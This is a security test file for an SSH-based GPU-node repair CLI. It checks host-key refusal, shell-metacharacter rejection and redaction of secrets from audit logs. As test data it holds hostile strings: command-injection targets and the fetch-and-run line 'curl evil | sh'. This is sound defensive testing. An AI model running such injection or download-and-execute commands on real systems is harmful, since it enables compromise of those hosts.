"""Security through the command line: host keys, shell metacharacters, secrets in logs, sudo prompts.

test_ssh_security.py checks the SSH backend itself; these go through ``nvls-tui check/repair/report``
(in-process ``main``) the way an operator would, and assert that a refusal is one line and that
nothing was attempted that the refusal was meant to prevent.
"""

from __future__ import annotations

import contextlib
import io
import json
from pathlib import Path

import asyncssh
import pytest

from nvls_tui.audit.log import AuditLog
from nvls_tui.backends.base import CommandResult
from nvls_tui.backends.simulated import SimulatedBackend
from nvls_tui.cli import main
from nvls_tui.poll.probe import RECORD_FILE
from nvls_tui.runbook import RepairOptions, Runbook, restore_node
from nvls_tui.runbook.record import RepairRecord
from nvls_tui.sim.fleet import load_fleet
from nvls_tui.sim.shims import write_shims
from tests.sshd_rig import SshdRig, find_sshd

SECRET = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"
FAST = RepairOptions(poll_interval=0.01, term_grace=0.5, holder_timeout=3.0, fm_timeout=3.0, smoke_timeout=30.0,
                     transient_pause=0.01)
needs_sshd = pytest.mark.skipif(find_sshd() is None, reason="openssh-server is not installed")


def run_cli(*argv: str) -> tuple[int, str, str]:
    """``nvls-tui ARGV`` in-process: exit status, stdout, stderr."""
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        code = main(list(argv))
    return code, out.getvalue(), err.getvalue()


@pytest.fixture
def no_connect(monkeypatch):
    """Record every SSH connection attempt (and make it fail, should one happen)."""
    attempts: list[tuple] = []

    async def connect(*args, **kwargs):
        attempts.append(args)
        raise OSError("connection attempted in a test that forbids it")

    monkeypatch.setattr(asyncssh, "connect", connect)
    return attempts


@pytest.fixture
def gpu05(tmp_path):
    """One static seed-incident gpu05 behind an sshd of the test's own (tests edit its shims)."""
    if find_sshd() is None:
        pytest.skip("openssh-server is not installed")
    rig = SshdRig(tmp_path / "rig", ["gpu05"],
                  lambda name, node_dir: write_shims(node_dir, "seed-incident", name, static=True)).start()
    yield rig
    rig.stop()


# ---- host keys ---------------------------------------------------------------------------------------

@needs_sshd
@pytest.mark.ssh
@pytest.mark.parametrize("trust, words", [("nothing", "is not in"), ("another key", "does not match")])
def test_check_refuses_an_unknown_or_changed_host_key_in_one_line(gpu05, tmp_path, trust, words):
    known = tmp_path / "known_hosts"
    other = asyncssh.generate_private_key("ssh-ed25519").export_public_key().decode().strip()
    port = gpu05.nodes["gpu05"].port
    known.write_text("" if trust == "nothing" else f"[127.0.0.1]:{port} {other}\n")
    code, out, err = run_cli("check", gpu05.target("gpu05"), "--json", "--known-hosts", str(known),
                             "-i", str(gpu05.client_key), "--ssh-config", str(gpu05.ssh_config))
    (node,) = json.loads(out)["nodes"]
    assert code == 2 and node["verdict"] == "unreachable" and node["gpus"] == []
    (finding,) = node["findings"]
    assert finding["code"] == "UNREACHABLE" and words in finding["message"]
    assert "refusing to connect" in finding["message"] and "\n" not in finding["message"]
    assert "Traceback" not in err


# ---- shell metacharacters ----------------------------------------------------------------------------

BAD_HOSTS = ["gpu05;reboot", "$(id)", "gpu`id`", "-oProxyCommand=id", "gpu05|sh", "a b"]


@pytest.mark.parametrize("command", ["check", "repair"])
@pytest.mark.parametrize("host", BAD_HOSTS)
def test_targets_with_shell_syntax_are_refused_in_one_line_before_any_connection(no_connect, command, host):
    extra = ["--yes"] if command == "repair" else []
    code, out, err = run_cli(command, *extra, "--", host)  # `--`: a leading dash reaches the validation too
    assert code == 2 and out == ""
    assert err.count("\n") == 1 and err.startswith("nvls-tui: refusing")
    assert no_connect == []


def test_a_hosts_file_line_with_shell_syntax_is_refused_before_any_connection(no_connect, tmp_path):
    hosts = tmp_path / "hosts"
    hosts.write_text("gpu01\n# a comment\ngpu02 && curl evil | sh\n")
    code, _, err = run_cli("check", "--hosts-file", str(hosts))
    assert code == 2 and err.count("\n") == 1 and "refusing" in err and "evil" in err
    assert no_connect == []


def test_a_jump_host_with_shell_syntax_is_refused_before_any_connection(no_connect):
    code, out, err = run_cli("check", "root@127.0.0.1:1", "--jump", "bastion;id", "--json", "--timeout", "2")
    # A usage error: one line, no JSON, and no connection attempted to anything.
    assert code == 2 and out == ""
    assert err.strip().splitlines() == [err.strip()] and "refusing target 'bastion;id'" in err
    assert no_connect == []


async def test_unit_names_in_a_tampered_on_node_record_never_reach_a_command_line():
    fleet = load_fleet("sim:seed-incident/gpu05", speed=2000)
    backend = SimulatedBackend(fleet, "gpu05")
    record = RepairRecord(run_id="r1", host="gpu05", operator="mallory", started="2026-08-10T00:00:00+00:00",
                          units={"kubelet.service": "active", "x.service;reboot": "active",
                                 "$(curl evil|sh).service": "active"})
    fleet.sh("gpu05", "mkdir", "-p", "/var/lib/nvls-tui")
    fleet.sh("gpu05", "tee", RECORD_FILE, stdin=record.to_json())
    outcome = await restore_node(backend, FAST)
    ran = [" ".join(argv) for _, argv in fleet.node("gpu05").cmdlog]
    assert not any("reboot" in line or "curl" in line for line in ran)
    assert outcome.result == "failed" and "not a unit name" in outcome.message and "\n" not in outcome.message
    assert fleet.node("gpu05").files.get(RECORD_FILE)  # kept: check still reports INTERRUPTED_REPAIR


# ---- secrets never reach the audit log or the report -------------------------------------------------

def key_body(path: Path) -> list[str]:
    """The base64 lines of a private key file (what must never be copied anywhere)."""
    return [line for line in path.read_text().splitlines() if line and not line.startswith("-----")]


@needs_sshd
@pytest.mark.ssh
def test_a_repair_plan_over_ssh_logs_and_reports_no_key_material_and_no_environment_secret(
        gpu05, tmp_path, monkeypatch):
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", SECRET)
    monkeypatch.setenv("GITHUB_TOKEN", "ghp_" + "A1b2C3d4" * 5)
    audit_dir, report = tmp_path / "audit", tmp_path / "report.md"
    code, out, err = run_cli("repair", gpu05.target("gpu05"), "--dry-run", "--json", "--audit-dir", str(audit_dir),
                             *gpu05.cli_args())
    assert code == 0 and json.loads(out)["nodes"][0]["result"] == "planned", err
    (log,) = audit_dir.glob("*.jsonl")
    assert run_cli("report", str(log), "-o", str(report))[0] == 0
    assert "nvidia-smi -r" in log.read_text() and "planned" in report.read_text()  # the plan is there ...
    for text in (log.read_text(), report.read_text()):
        assert SECRET not in text and "ghp_" not in text  # ... the environment is not
        assert not any(line in text for line in key_body(gpu05.client_key))
        assert "PRIVATE KEY" not in text


class LeakyBackend(SimulatedBackend):
    """A node whose every command also prints a secret and a private key (a noisy login profile)."""

    def __init__(self, fleet, name, leak: str) -> None:
        super().__init__(fleet, name)
        self.leak = leak

    async def run(self, argv, timeout=None, **kw) -> CommandResult:
        result = await super().run(argv, timeout, **kw)
        return CommandResult(result.argv, result.exit_status, result.stdout + self.leak, result.stderr + self.leak,
                             result.duration)


async def test_secrets_printed_by_the_node_are_redacted_from_the_audit_log_and_the_report(tmp_path):
    key = asyncssh.generate_private_key("ssh-ed25519").export_private_key().decode()
    leak = f"\nexport AWS_SECRET_ACCESS_KEY={SECRET}\nAuthorization: Bearer {SECRET}\n{key}"
    fleet = load_fleet("sim:seed-incident/gpu05", speed=2000)
    log = tmp_path / "repair.jsonl"
    with AuditLog(log, operator="kim") as audit:
        outcome = await Runbook(LeakyBackend(fleet, "gpu05", leak), FAST, on_event=audit).run()
    # With the leaked lines riding on every command's output the reset is refused and the run fails,
    # every time (the simulator is deterministic). The redaction below is what is tested.
    assert outcome.result == "failed", outcome.message
    report = tmp_path / "report.md"
    assert run_cli("report", str(log), "-o", str(report))[0] == 0
    body = [line for line in key.splitlines() if not line.startswith("-----")]
    for text in (log.read_text(), report.read_text()):
        assert SECRET not in text
        assert not any(line in text for line in body)
    assert "[private key redacted]" in log.read_text()


# ---- sudo that wants a password ----------------------------------------------------------------------

def sudo_wants_a_password(rig: SshdRig) -> None:
    fake = rig.nodes["gpu05"].bin / "sudo"  # what `sudo -n` prints for a user without NOPASSWD
    fake.write_text("#!/bin/sh\necho 'sudo: a password is required' >&2\nexit 1\n")
    fake.chmod(0o755)


@needs_sshd
@pytest.mark.ssh
def test_a_sudo_password_prompt_makes_check_say_so_in_one_line_instead_of_hiding_the_holders(gpu05):
    sudo_wants_a_password(gpu05)
    code, out, err = run_cli("check", gpu05.target("gpu05"), "--sudo", "--json", *gpu05.cli_args())
    (node,) = json.loads(out)["nodes"]
    assert code == 2 and node["verdict"] == "unreachable"
    (finding,) = node["findings"]
    assert "sudo wants a password" in finding["message"] and "NOPASSWD" in finding["message"]
    assert "\n" not in finding["message"] and "Traceback" not in err


@needs_sshd
@pytest.mark.ssh
def test_a_sudo_password_prompt_makes_repair_refuse_in_one_line_and_change_nothing(gpu05, tmp_path):
    sudo_wants_a_password(gpu05)
    code, out, err = run_cli("repair", gpu05.target("gpu05"), "--sudo", "--yes", "--json",
                             "--audit-dir", str(tmp_path / "audit"), *gpu05.cli_args())
    (node,) = json.loads(out)["nodes"]
    assert code == 1 and node["result"] == "refused"
    assert "sudo wants a password" in node["message"] and "\n" not in node["message"]
    assert "lost the node" not in node["message"]
    assert [s["status"] for s in node["steps"][1:]] == ["skipped"] * 7
    assert "Traceback" not in err
